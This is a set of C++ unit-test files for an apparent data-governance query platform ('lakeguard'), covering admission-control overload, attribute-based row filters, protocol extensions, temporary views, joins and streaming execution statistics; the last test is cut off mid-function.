TEST_F(ConnectOverloadTest, QueueWaitTimeoutShedsWithTypedError) {
  LakeguardPlatform::Options options;
  options.admission_config.max_concurrent_operations = 1;
  options.admission_config.max_queue_depth = 4;
  options.admission_config.max_queue_wait_micros = 50'000;
  auto platform = MakePlatform(options);
  ClusterHandle* cluster = platform->CreateStandardCluster();
  auto client = platform->Connect(cluster, "tok");
  ASSERT_TRUE(client.ok());
  const std::string session = client->session_id();
  RecordBatch batch = BigBatch(6000);

  ConnectResponse holder =
      cluster->service->Execute(ExecRequest(session, "op-hold", batch));
  ASSERT_TRUE(holder.ok) << holder.error_message;

  // Single-threaded: the waiter itself advances the simulated clock while
  // queued, so the wait deterministically times out.
  ConnectResponse timed_out =
      cluster->service->Execute(ExecRequest(session, "op-b", batch));
  EXPECT_FALSE(timed_out.ok);
  EXPECT_EQ(timed_out.error_code, "unavailable") << timed_out.error_message;

  ConnectServiceStats stats = cluster->service->service_stats();
  EXPECT_EQ(stats.queued_operations, 1u);
  EXPECT_EQ(stats.queue_timeouts, 1u);
  EXPECT_EQ(stats.shed_operations, 1u);
  EXPECT_EQ(stats.peak_queue_depth, 1u);
  EXPECT_GE(stats.queue_wait_micros,
            static_cast<uint64_t>(
                options.admission_config.max_queue_wait_micros));
}

TEST_F(ConnectOverloadTest, OperationDeadlineFiresBeforeQueueTimeout) {
  LakeguardPlatform::Options options;
  options.admission_config.max_concurrent_operations = 1;
  options.admission_config.max_queue_depth = 4;
  options.admission_config.max_queue_wait_micros = 10'000'000;
  auto platform = MakePlatform(std::move(options));
  ClusterHandle* cluster = platform->CreateStandardCluster();
  auto client = platform->Connect(cluster, "tok");
  ASSERT_TRUE(client.ok());
  const std::string session = client->session_id();
  RecordBatch batch = BigBatch(6000);

  ConnectResponse holder =
      cluster->service->Execute(ExecRequest(session, "op-hold", batch));
  ASSERT_TRUE(holder.ok) << holder.error_message;

  ConnectResponse expired = cluster->service->Execute(
      ExecRequest(session, "op-b", batch, /*deadline_micros=*/40'000));
  EXPECT_FALSE(expired.ok);
  EXPECT_EQ(expired.error_code, "deadline_exceeded") << expired.error_message;

  // A deadline miss is the client's bound, not server overload: no shed.
  ConnectServiceStats stats = cluster->service->service_stats();
  EXPECT_EQ(stats.queue_timeouts, 0u);
  EXPECT_EQ(stats.shed_operations, 0u);
}

TEST_F(ConnectOverloadTest, ConcurrentStormAllSucceedThroughQueueAndRetry) {
  LakeguardPlatform::Options options;
  options.admission_config.max_concurrent_operations = 2;
  options.admission_config.max_queue_depth = 1;
  options.admission_config.max_queue_wait_micros = 200'000;
  auto platform = MakePlatform(std::move(options));
  ClusterHandle* cluster = platform->CreateStandardCluster();

  constexpr int kClients = 6;
  constexpr int64_t kRows = 6000;
  std::vector<ConnectClient> clients;
  for (int i = 0; i < kClients; ++i) {
    auto client = platform->Connect(cluster, "tok");
    ASSERT_TRUE(client.ok());
    clients.push_back(std::move(*client));
  }
  RecordBatch batch = BigBatch(kRows);

  // Deterministically provoke a shed before the storm: pin both execution
  // slots with streaming holders, then queue one more operation. The queued
  // waiter self-advances the simulated clock past the wait bound and is shed.
  // (The storm below is timing-dependent — under load its threads can
  // serialize so cleanly that no client ever sees a full queue.)
  auto holder_client = platform->Connect(cluster, "tok");
  ASSERT_TRUE(holder_client.ok());
  const std::string holder_session = holder_client->session_id();
  ConnectResponse hold_a = cluster->service->Execute(
      ExecRequest(holder_session, "op-hold-a", batch));
  ASSERT_TRUE(hold_a.ok) << hold_a.error_message;
  ASSERT_TRUE(hold_a.streaming);
  ConnectResponse hold_b = cluster->service->Execute(
      ExecRequest(holder_session, "op-hold-b", batch));
  ASSERT_TRUE(hold_b.ok) << hold_b.error_message;
  ConnectResponse shed = cluster->service->Execute(
      ExecRequest(holder_session, "op-shed", batch));
  ASSERT_FALSE(shed.ok);
  EXPECT_EQ(shed.error_code, "unavailable") << shed.error_message;
  ASSERT_GT(cluster->service->service_stats().shed_operations, 0u);
  EXPECT_EQ(Drain(cluster->service.get(), holder_session, "op-hold-a"), 6u);
  EXPECT_EQ(Drain(cluster->service.get(), holder_session, "op-hold-b"), 6u);

  std::atomic<int> succeeded{0};
  std::atomic<int> hard_failures{0};
  std::vector<std::thread> threads;
  for (int i = 0; i < kClients; ++i) {
    threads.emplace_back([&, i] {
      for (int attempt = 0; attempt < 20'000; ++attempt) {
        auto table =
            clients[static_cast<size_t>(i)].FromBatch(batch).Collect();
        if (table.ok()) {
          if (table->num_rows() == static_cast<size_t>(kRows)) ++succeeded;
          return;
        }
        if (!IsTransientError(table.status())) {
          ++hard_failures;
          ADD_FAILURE() << "non-retryable: " << table.status().ToString();
          return;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(1));
      }
      ++hard_failures;
    });
  }
  for (auto& thread : threads) thread.join();

  EXPECT_EQ(succeeded.load(), kClients)
      << "every client must eventually complete via queue + retry";
  EXPECT_EQ(hard_failures.load(), 0);
  ConnectServiceStats stats = cluster->service->service_stats();
  EXPECT_GT(stats.shed_operations, 0u) << "overload must have shed some load";
  // The two holders plus every storm client were eventually admitted.
  EXPECT_GE(stats.admitted_operations, static_cast<uint64_t>(kClients) + 2);
}

TEST_F(ConnectOverloadTest, GovernorDropsSessionNodesOnCloseAndExpiry) {
  auto platform = MakePlatform(LakeguardPlatform::Options());
  ClusterHandle* cluster = platform->CreateStandardCluster();
  MemoryGovernor& governor = platform->memory_governor();
  // The platform pre-registers the eFGAC backend's session node.
  const size_t baseline = governor.TrackedSessionCount();

  auto closing = platform->Connect(cluster, "tok");
  ASSERT_TRUE(closing.ok());
  ASSERT_TRUE(closing->FromBatch(BigBatch(10)).Collect().ok());
  EXPECT_EQ(governor.TrackedSessionCount(), baseline + 1);
  ASSERT_TRUE(closing->Close().ok());
  EXPECT_EQ(governor.TrackedSessionCount(), baseline);

  auto idle = platform->Connect(cluster, "tok");
  ASSERT_TRUE(idle.ok());
  ASSERT_TRUE(idle->FromBatch(BigBatch(10)).Collect().ok());
  EXPECT_EQ(governor.TrackedSessionCount(), baseline + 1);
  platform->simulated_clock()->AdvanceMicros(3'600'000'000);
  EXPECT_GE(cluster->service->ExpireIdleSessions(1'000'000), 1u);
  EXPECT_EQ(governor.TrackedSessionCount(), baseline);
}

}  // namespace
}  // namespace lakeguard
