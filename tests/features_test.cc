// Tests for the extended paper features: Connect protocol extensions
// (§3.2.2), ABAC user attributes (§2.3), operation reattach (§3.2.3),
// ORDER BY over non-projected columns, and hash-join correctness at scale.

#include <gtest/gtest.h>

#include "core/platform.h"
#include "plan/plan_serde.h"
#include "sql/parser.h"

namespace lakeguard {
namespace {

class FeaturesTest : public ::testing::Test {
 protected:
  FeaturesTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("alice").ok());
    platform_.AddMetastoreAdmin("admin");
    platform_.RegisterToken("tok-admin", "admin");
    platform_.RegisterToken("tok-alice", "alice");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    cluster_ = platform_.CreateStandardCluster();
    admin_ctx_ = *platform_.DirectContext(cluster_, "admin");
    Must("CREATE TABLE main.s.t (dept STRING, amount BIGINT)");
    Must("INSERT INTO main.s.t VALUES ('oncology', 10), ('oncology', 20), "
         "('cardiology', 30)");
    Must("GRANT USE CATALOG ON main TO alice");
    Must("GRANT USE SCHEMA ON main.s TO alice");
    Must("GRANT SELECT ON main.s.t TO alice");
  }

  void Must(const std::string& sql) {
    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
    ASSERT_TRUE(result.ok()) << sql << " -> " << result.status();
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext admin_ctx_;
};

// ---- Connect protocol extensions (§3.2.2) --------------------------------------

/// A demo extension in the spirit of the Delta Spark Connect plugin: the
/// payload encodes N; the server expands it to a generated series relation.
class GenerateSeriesExtension : public ConnectExtension {
 public:
  Result<PlanPtr> Expand(const std::vector<uint8_t>& payload,
                         const ExecutionContext&) override {
    ByteReader reader(payload);
    LG_ASSIGN_OR_RETURN(uint64_t n, reader.ReadVarint());
    if (n > 1'000'000) {
      return Status::InvalidArgument("series too large");
    }
    TableBuilder builder(Schema({{"i", TypeKind::kInt64, false}}));
    for (uint64_t i = 0; i < n; ++i) {
      LG_RETURN_IF_ERROR(builder.AppendRow({Value::Int(
          static_cast<int64_t>(i))}));
    }
    LG_ASSIGN_OR_RETURN(RecordBatch batch, builder.Build().Combine());
    return MakeLocalRelation(std::move(batch));
  }
};

/// An extension that references a governed table — proves extensions go
/// through normal governance.
class GovernedTableExtension : public ConnectExtension {
 public:
  Result<PlanPtr> Expand(const std::vector<uint8_t>&,
                         const ExecutionContext&) override {
    return MakeTableRef("main.s.t");
  }
};

TEST_F(FeaturesTest, ExtensionExpandsOverTheWire) {
  platform_.extensions().Register(
      "generate_series", std::make_shared<GenerateSeriesExtension>());
  auto client = platform_.Connect(cluster_, "tok-admin");
  ASSERT_TRUE(client.ok());
  ByteWriter payload;
  payload.PutVarint(5);
  auto rows =
      client->FromExtension("generate_series", payload.Release())
          .Filter(BinOp(BinaryOpKind::kGe, Col("i"), LitInt(2)))
          .Collect();
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->num_rows(), 3u);
}

TEST_F(FeaturesTest, UnknownExtensionFails) {
  auto client = platform_.Connect(cluster_, "tok-admin");
  ASSERT_TRUE(client.ok());
  auto rows = client->FromExtension("no_such_plugin", {1, 2, 3}).Collect();
  ASSERT_FALSE(rows.ok());
  EXPECT_NE(rows.status().message().find("not_found"), std::string::npos);
}

TEST_F(FeaturesTest, ExtensionCannotBypassGovernance) {
  platform_.extensions().Register("governed_table",
                                  std::make_shared<GovernedTableExtension>());
  // alice HAS SELECT on main.s.t: works.
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  EXPECT_TRUE(alice->FromExtension("governed_table", {}).Collect().ok());
  // Revoke and the same extension is denied — it resolved through the
  // catalog like any hand-written relation.
  Must("REVOKE SELECT ON main.s.t FROM alice");
  auto denied = alice->FromExtension("governed_table", {}).Collect();
  ASSERT_FALSE(denied.ok());
  EXPECT_NE(denied.status().message().find("permission_denied"),
            std::string::npos);
}

TEST_F(FeaturesTest, ExtensionNodeSerdeRoundTrips) {
  PlanPtr plan = MakeExtension("delta.time_travel", {0x01, 0x02, 0xFF});
  auto back = PlanFromBytes(PlanToBytes(plan));
  ASSERT_TRUE(back.ok());
  EXPECT_TRUE((*back)->Equals(*plan));
  EXPECT_NE(plan->ToTreeString().find("Extension [delta.time_travel"),
            std::string::npos);
}

TEST_F(FeaturesTest, ExtensionWorksUnderEfgacRewrite) {
  platform_.extensions().Register("governed_table",
                                  std::make_shared<GovernedTableExtension>());
  Must("ALTER TABLE main.s.t SET ROW FILTER (dept = 'oncology')");
  ClusterHandle* dedicated =
      platform_.CreateDedicatedCluster("alice", /*is_group=*/false);
  auto ctx = *platform_.DirectContext(dedicated, "alice");
  auto result = dedicated->engine->ExecutePlan(
      MakeExtension("governed_table", {}), ctx);
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_EQ(result->num_rows(), 2u);  // row filter applied remotely
}

// ---- ABAC user attributes (§2.3) -------------------------------------------------

TEST_F(FeaturesTest, UserAttributeDirectory) {
  auto& users = platform_.catalog().users();
  EXPECT_TRUE(users.SetAttribute("alice", "dept", "oncology").ok());
  EXPECT_EQ(*users.GetAttribute("alice", "dept"), "oncology");
  EXPECT_TRUE(users.GetAttribute("alice", "nope").status().IsNotFound());
  EXPECT_TRUE(users.SetAttribute("ghost", "dept", "x").IsNotFound());
}

TEST_F(FeaturesTest, AbacRowFilter) {
  ASSERT_TRUE(platform_.catalog()
                  .users()
                  .SetAttribute("alice", "dept", "oncology")
                  .ok());
  Must("ALTER TABLE main.s.t SET ROW FILTER "
       "(dept = USER_ATTRIBUTE('dept'))");
  auto alice_ctx = *platform_.DirectContext(cluster_, "alice");
  auto rows = cluster_->engine->ExecuteSql(
      "SELECT amount FROM main.s.t ORDER BY amount", alice_ctx);
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->num_rows(), 2u);  // only oncology rows
  // A user without the attribute sees nothing (NULL comparison).
  ASSERT_TRUE(platform_.AddUser("bob").ok());
  Must("GRANT USE CATALOG ON main TO bob");
  Must("GRANT USE SCHEMA ON main.s TO bob");
  Must("GRANT SELECT ON main.s.t TO bob");
  auto bob_ctx = *platform_.DirectContext(cluster_, "bob");
  auto bob_rows =
      cluster_->engine->ExecuteSql("SELECT amount FROM main.s.t", bob_ctx);
  ASSERT_TRUE(bob_rows.ok());
  EXPECT_EQ(bob_rows->num_rows(), 0u);
}

TEST_F(FeaturesTest, AbacAttributeChangeTakesEffect) {
  ASSERT_TRUE(platform_.catalog()
                  .users()
                  .SetAttribute("alice", "dept", "cardiology")
                  .ok());
  Must("ALTER TABLE main.s.t SET ROW FILTER "
       "(dept = USER_ATTRIBUTE('dept'))");
  auto alice_ctx = *platform_.DirectContext(cluster_, "alice");
  auto before = cluster_->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.t", alice_ctx);
  EXPECT_EQ(before->Combine()->CellAt(0, 0).int_value(), 1);
  ASSERT_TRUE(platform_.catalog()
                  .users()
                  .SetAttribute("alice", "dept", "oncology")
                  .ok());
  auto after = cluster_->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.t", alice_ctx);
  EXPECT_EQ(after->Combine()->CellAt(0, 0).int_value(), 2);
}

// ---- Operation reattach (§3.2.3) ----------------------------------------------------

TEST_F(FeaturesTest, ReattachReturnsBufferedResultWithoutReexecution) {
  // Build a result large enough to be buffered (non-inline).
  Must("CREATE TABLE main.s.big (x BIGINT)");
  std::string sql = "INSERT INTO main.s.big VALUES (0)";
  for (int i = 1; i < 6000; ++i) sql += ", (" + std::to_string(i) + ")";
  Must(sql);

  auto client = platform_.Connect(cluster_, "tok-admin");
  ASSERT_TRUE(client.ok());
  ConnectRequest request;
  request.session_id = client->session_id();
  request.sql = "SELECT x FROM main.s.big";
  ConnectResponse first = cluster_->service->Execute(request);
  ASSERT_TRUE(first.ok);
  ASSERT_TRUE(first.inline_chunks.empty());

  size_t audit_before = platform_.catalog().audit().size();
  // Client "reconnects" and reattaches with the same operation id.
  ConnectRequest retry;
  retry.session_id = client->session_id();
  retry.operation_id = first.operation_id;
  retry.sql = "SELECT x FROM main.s.big";  // ignored: buffered result wins
  ConnectResponse second = cluster_->service->Execute(retry);
  ASSERT_TRUE(second.ok);
  EXPECT_EQ(second.operation_id, first.operation_id);
  EXPECT_EQ(second.total_chunks, first.total_chunks);
  // No re-execution happened: no new catalog resolution was audited.
  EXPECT_EQ(platform_.catalog().audit().size(), audit_before);
  // And the chunks are still fetchable.
  EXPECT_TRUE(cluster_->service
                  ->FetchChunk(client->session_id(), first.operation_id, 0)
                  .ok());
}

// ---- ORDER BY over non-projected columns ---------------------------------------------

TEST_F(FeaturesTest, OrderByInputColumnNotInSelect) {
  auto rows = cluster_->engine->ExecuteSql(
      "SELECT amount FROM main.s.t ORDER BY dept DESC, amount", admin_ctx_);
  ASSERT_TRUE(rows.ok()) << rows.status();
  auto batch = *rows->Combine();
  ASSERT_EQ(batch.num_rows(), 3u);
  EXPECT_EQ(batch.schema().num_fields(), 1u);  // dept NOT in output
  // oncology (10, 20) sorts after cardiology (30) with DESC dept.
  EXPECT_EQ(batch.CellAt(0, 0).int_value(), 10);
  EXPECT_EQ(batch.CellAt(2, 0).int_value(), 30);
}

TEST_F(FeaturesTest, OrderByOutputAliasStillWorks) {
  auto rows = cluster_->engine->ExecuteSql(
      "SELECT amount * 2 AS dbl FROM main.s.t ORDER BY dbl DESC",
      admin_ctx_);
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 60);
}

TEST_F(FeaturesTest, OrderByMixedAliasAndInputColumn) {
  auto rows = cluster_->engine->ExecuteSql(
      "SELECT amount * 2 AS dbl FROM main.s.t ORDER BY dept, dbl DESC",
      admin_ctx_);
  ASSERT_TRUE(rows.ok()) << rows.status();
  auto batch = *rows->Combine();
  EXPECT_EQ(batch.CellAt(0, 0).int_value(), 60);  // cardiology first
  EXPECT_EQ(batch.CellAt(1, 0).int_value(), 40);  // oncology desc by dbl
}

// ---- Hash join at scale ------------------------------------------------------------

TEST_F(FeaturesTest, HashJoinMatchesExpectedCardinality) {
  Must("CREATE TABLE main.s.fact (k BIGINT, v BIGINT)");
  Must("CREATE TABLE main.s.dim (k BIGINT, name STRING)");
  std::string fact = "INSERT INTO main.s.fact VALUES (0, 0)";
  for (int i = 1; i < 2000; ++i) {
    fact += ", (" + std::to_string(i % 100) + ", " + std::to_string(i) + ")";
  }
  Must(fact);
  std::string dim = "INSERT INTO main.s.dim VALUES (0, 'k0')";
  for (int i = 1; i < 50; ++i) {
    dim += ", (" + std::to_string(i) + ", 'k" + std::to_string(i) + "')";
  }
  Must(dim);
  // Keys 0..49 match (20 fact rows each); 50..99 do not.
  auto inner = cluster_->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.fact f "
      "JOIN main.s.dim d ON f.k = d.k",
      admin_ctx_);
  ASSERT_TRUE(inner.ok()) << inner.status();
  EXPECT_EQ(inner->Combine()->CellAt(0, 0).int_value(), 1000);
  auto left = cluster_->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.fact f "
      "LEFT JOIN main.s.dim d ON f.k = d.k",
      admin_ctx_);
  EXPECT_EQ(left->Combine()->CellAt(0, 0).int_value(), 2000);
}

TEST_F(FeaturesTest, HashJoinNullKeysNeverMatch) {
  Must("CREATE TABLE main.s.l (k BIGINT)");
  Must("CREATE TABLE main.s.r (k BIGINT)");
  Must("INSERT INTO main.s.l VALUES (1), (NULL)");
  Must("INSERT INTO main.s.r VALUES (1), (NULL)");
  auto inner = cluster_->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.l a JOIN main.s.r b ON a.k = b.k",
      admin_ctx_);
  ASSERT_TRUE(inner.ok());
  EXPECT_EQ(inner->Combine()->CellAt(0, 0).int_value(), 1);  // NULL != NULL
  auto left = cluster_->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.l a LEFT JOIN main.s.r b "
      "ON a.k = b.k",
      admin_ctx_);
  EXPECT_EQ(left->Combine()->CellAt(0, 0).int_value(), 2);
}

TEST_F(FeaturesTest, NonEquiJoinFallsBackCorrectly) {
  Must("CREATE TABLE main.s.a (x BIGINT)");
  Must("CREATE TABLE main.s.b (y BIGINT)");
  Must("INSERT INTO main.s.a VALUES (1), (2), (3)");
  Must("INSERT INTO main.s.b VALUES (2), (3)");
  auto rows = cluster_->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.a a JOIN main.s.b b ON a.x < b.y",
      admin_ctx_);
  ASSERT_TRUE(rows.ok()) << rows.status();
  // pairs: (1,2),(1,3),(2,3) = 3
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 3);
}

// ---- Session-scoped temporary views (§3.2.3) ----------------------------------------

TEST_F(FeaturesTest, TempViewsAreSessionState) {
  auto admin = platform_.Connect(cluster_, "tok-admin");
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(admin.ok());
  ASSERT_TRUE(alice.ok());
  ASSERT_TRUE(admin->Sql("CREATE TEMP VIEW big AS "
                         "SELECT amount FROM main.s.t WHERE amount > 15")
                  .ok());
  auto mine = admin->Sql("SELECT COUNT(*) AS n FROM big");
  ASSERT_TRUE(mine.ok()) << mine.status();
  EXPECT_EQ(mine->Combine()->CellAt(0, 0).int_value(), 2);
  // Another session cannot see it.
  auto theirs = alice->Sql("SELECT COUNT(*) AS n FROM big");
  EXPECT_FALSE(theirs.ok());
  // Dropping removes it for this session only.
  ASSERT_TRUE(admin->Sql("DROP VIEW big").ok());
  EXPECT_FALSE(admin->Sql("SELECT COUNT(*) AS n FROM big").ok());
  EXPECT_FALSE(admin->Sql("DROP VIEW big").ok());
}

TEST_F(FeaturesTest, TempViewsAreInvokersRights) {
  // alice defines a temp view over a table she can read; after revocation
  // the temp view stops working — it carries no definer privileges.
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  ASSERT_TRUE(
      alice->Sql("CREATE TEMP VIEW mine AS SELECT amount FROM main.s.t")
          .ok());
  EXPECT_TRUE(alice->Sql("SELECT amount FROM mine").ok());
  Must("REVOKE SELECT ON main.s.t FROM alice");
  EXPECT_FALSE(alice->Sql("SELECT amount FROM mine").ok());
}

TEST_F(FeaturesTest, TempViewShadowsNothingInCatalog) {
  auto admin = platform_.Connect(cluster_, "tok-admin");
  ASSERT_TRUE(admin.ok());
  // CREATE MATERIALIZED TEMP VIEW is contradictory.
  EXPECT_FALSE(
      admin->Sql("CREATE MATERIALIZED TEMP VIEW x AS SELECT 1 FROM main.s.t")
          .ok());
}

// ---- INSERT INTO ... SELECT (ETL write path) ------------------------------------------

TEST_F(FeaturesTest, InsertSelectCopiesGovernedData) {
  Must("CREATE TABLE main.s.archive (dept STRING, amount BIGINT)");
  Must("INSERT INTO main.s.archive "
       "SELECT dept, amount FROM main.s.t WHERE amount > 15");
  auto rows = cluster_->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.archive", admin_ctx_);
  ASSERT_TRUE(rows.ok());
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 2);
}

TEST_F(FeaturesTest, InsertSelectRespectsReadersPolicies) {
  // alice may MODIFY the sink but her reads of the source are row-filtered:
  // the ETL copy contains only what SHE can see.
  Must("CREATE TABLE main.s.sink (dept STRING, amount BIGINT)");
  Must("GRANT MODIFY ON main.s.sink TO alice");
  Must("GRANT SELECT ON main.s.sink TO alice");
  Must("ALTER TABLE main.s.t SET ROW FILTER (dept = 'oncology')");
  auto alice_ctx = *platform_.DirectContext(cluster_, "alice");
  auto copy = cluster_->engine->ExecuteSql(
      "INSERT INTO main.s.sink SELECT dept, amount FROM main.s.t",
      alice_ctx);
  ASSERT_TRUE(copy.ok()) << copy.status();
  auto rows = cluster_->engine->ExecuteSql(
      "SELECT COUNT(*) AS n FROM main.s.sink", admin_ctx_);
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 2);  // no cardiology
}

TEST_F(FeaturesTest, InsertSelectArityChecked) {
  Must("CREATE TABLE main.s.narrow (x BIGINT)");
  auto bad = cluster_->engine->ExecuteSql(
      "INSERT INTO main.s.narrow SELECT dept, amount FROM main.s.t",
      admin_ctx_);
  EXPECT_TRUE(bad.status().IsInvalidArgument());
}

// ---- Optimizer equivalence property ---------------------------------------------------

class OptimizerEquivalenceTest : public FeaturesTest,
                                 public ::testing::WithParamInterface<int> {
 public:
  static std::vector<std::string> Queries() {
    return {
        "SELECT amount FROM main.s.t WHERE dept = 'oncology'",
        "SELECT amount * 2 AS d FROM main.s.t WHERE amount > 5 "
        "ORDER BY d DESC",
        "SELECT dept, SUM(amount) AS s FROM main.s.t GROUP BY dept "
        "HAVING SUM(amount) > 15 ORDER BY s",
        "SELECT UPPER(dept) AS u, amount + 1 AS a1 FROM main.s.t "
        "WHERE amount BETWEEN 5 AND 25",
        "SELECT a.amount FROM main.s.t a JOIN main.s.t b "
        "ON a.dept = b.dept WHERE a.amount < b.amount",
    };
  }
};

TEST_P(OptimizerEquivalenceTest, OptimizedMatchesUnoptimized) {
  std::string query = Queries()[static_cast<size_t>(GetParam())];
  auto optimized = cluster_->engine->ExecuteSql(query, admin_ctx_);
  ASSERT_TRUE(optimized.ok()) << optimized.status();

  QueryEngineConfig off;
  off.opt.enable_fusion = false;
  off.opt.enable_filter_pushdown = false;
  off.opt.enable_constant_folding = false;
  QueryEngineConfig saved = cluster_->engine->config();
  cluster_->engine->set_config(off);
  auto raw = cluster_->engine->ExecuteSql(query, admin_ctx_);
  cluster_->engine->set_config(saved);
  ASSERT_TRUE(raw.ok()) << raw.status();
  EXPECT_TRUE(optimized->Equals(*raw)) << query;
}

INSTANTIATE_TEST_SUITE_P(Queries, OptimizerEquivalenceTest,
                         ::testing::Range(0, 5));

}  // namespace
}  // namespace lakeguard
