// Tests for the streaming batch pipeline: pull-based operator iterators
// (scan laziness, Limit short-circuit, pipeline-breaker materialization),
// exact ExecutorStats accounting under batching, and lazy Connect chunk
// production with exact replay.

#include <gtest/gtest.h>

#include "columnar/batch_iterator.h"
#include "connect/protocol.h"
#include "core/platform.h"
#include "plan/plan_serde.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

class StreamingTest : public ::testing::Test {
 protected:
  StreamingTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    platform_.AddMetastoreAdmin("admin");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    cluster_ = platform_.CreateStandardCluster();
    admin_ctx_ = *platform_.DirectContext(cluster_, "admin");

    // Small batches make operator behavior observable: each 20-row part
    // re-slices into 3 batches of (8, 8, 4).
    QueryEngineConfig config = cluster_->engine->config();
    config.exec.batch_size = 8;
    cluster_->engine->set_config(config);

    MustSql("CREATE TABLE main.s.data (a BIGINT, b BIGINT)");
    for (int part = 0; part < 3; ++part) {
      std::string sql = "INSERT INTO main.s.data VALUES ";
      for (int i = 0; i < 20; ++i) {
        int v = part * 20 + i;
        if (i > 0) sql += ", ";
        sql += "(" + std::to_string(v) + ", " + std::to_string(v % 7) + ")";
      }
      MustSql(sql);
    }
  }

  Table MustSql(const std::string& sql) {
    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
    EXPECT_TRUE(result.ok()) << sql << " -> " << result.status();
    return result.ok() ? *result : Table();
  }

  /// Opens `sql` as a stream, drains it, and returns (result, final stats).
  std::pair<Table, ExecutorStats> RunStreaming(const std::string& sql) {
    auto stream = cluster_->engine->ExecuteSqlStreaming(sql, admin_ctx_);
    EXPECT_TRUE(stream.ok()) << sql << " -> " << stream.status();
    if (!stream.ok()) return {Table(), ExecutorStats()};
    Table out((*stream)->schema());
    while (true) {
      auto batch = (*stream)->Next();
      EXPECT_TRUE(batch.ok()) << batch.status();
      if (!batch.ok() || !batch->has_value()) break;
      if ((*batch)->num_rows() == 0) continue;
      EXPECT_TRUE(out.AppendBatch(std::move(**batch)).ok());
    }
    return {std::move(out), (*stream)->stats()};
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext admin_ctx_;
};

// ---- Exact stats accounting -------------------------------------------------------

TEST_F(StreamingTest, ScanCountsBatchesAndRowsExactly) {
  auto [table, stats] = RunStreaming("SELECT a FROM main.s.data");
  EXPECT_EQ(table.num_rows(), 60u);
  // 3 parts of 20 rows, re-sliced at batch_size=8: 3 batches each.
  EXPECT_EQ(stats.batches_scanned, 9u);
  EXPECT_EQ(stats.rows_scanned, 60u);
  EXPECT_EQ(stats.operator_batches.at("scan"), 9u);
  EXPECT_EQ(stats.operator_batches.at("project"), 9u);
  EXPECT_EQ(stats.batches_emitted, 18u);
  // Pure streaming: at most one in-flight batch per stage plus the resident
  // scan part — never the whole table.
  EXPECT_LE(stats.peak_resident_batches, 3u);
  EXPECT_EQ(stats.resident_batches, 0u);  // everything released after drain
}

TEST_F(StreamingTest, FullyFilteredBatchesAreNotEmitted) {
  auto [table, stats] = RunStreaming("SELECT a FROM main.s.data WHERE a < 0");
  EXPECT_EQ(table.num_rows(), 0u);
  // The filter pulled everything but never emitted a batch downstream.
  EXPECT_EQ(stats.batches_scanned, 9u);
  EXPECT_EQ(stats.operator_batches.count("filter"), 0u);
  EXPECT_EQ(stats.operator_batches.count("project"), 0u);
}

TEST_F(StreamingTest, SortMaterializesThenStreamsBoundedBatches) {
  auto [table, stats] =
      RunStreaming("SELECT a FROM main.s.data ORDER BY a");
  auto combined = *table.Combine();
  ASSERT_EQ(combined.num_rows(), 60u);
  EXPECT_EQ(combined.CellAt(0, 0).int_value(), 0);
  EXPECT_EQ(combined.CellAt(59, 0).int_value(), 59);
  // The breaker re-slices its materialized output: ceil(60/8) = 8 batches.
  EXPECT_EQ(stats.operator_batches.at("sort"), 8u);
  // And its materialization shows up in the memory proxy.
  EXPECT_GE(stats.peak_resident_batches, 8u);
}

TEST_F(StreamingTest, UdfSandboxDispatchIsPerBatch) {
  FunctionInfo fn;
  fn.full_name = "main.s.adder";
  fn.num_args = 2;
  fn.return_type = TypeKind::kInt64;
  fn.body = canned::SumUdf();
  ASSERT_TRUE(platform_.catalog().CreateFunction("admin", fn).ok());

  auto [table, stats] =
      RunStreaming("SELECT main.s.adder(a, 100) AS v FROM main.s.data");
  EXPECT_EQ(table.num_rows(), 60u);
  // One boundary crossing per pipeline batch: 9 scan batches -> 9 sandbox
  // batches (fusion groups the single call, so no extra crossings).
  EXPECT_EQ(stats.udf_sandbox_batches, 9u);
  EXPECT_EQ(stats.udf_rows, 60u);
}

// ---- Limit short-circuit ----------------------------------------------------------

TEST_F(StreamingTest, LimitStopsPullingScanBatches) {
  // One 512-row part -> 64 scan batches at batch_size=8. A LIMIT spanning
  // exactly two batches must leave the remaining 62 unread.
  MustSql("CREATE TABLE main.s.wide (x BIGINT)");
  std::string sql = "INSERT INTO main.s.wide VALUES ";
  for (int i = 0; i < 512; ++i) {
    if (i > 0) sql += ", ";
    sql += "(" + std::to_string(i) + ")";
  }
  MustSql(sql);

  auto [table, stats] = RunStreaming("SELECT x FROM main.s.wide LIMIT 12");
  EXPECT_EQ(table.num_rows(), 12u);
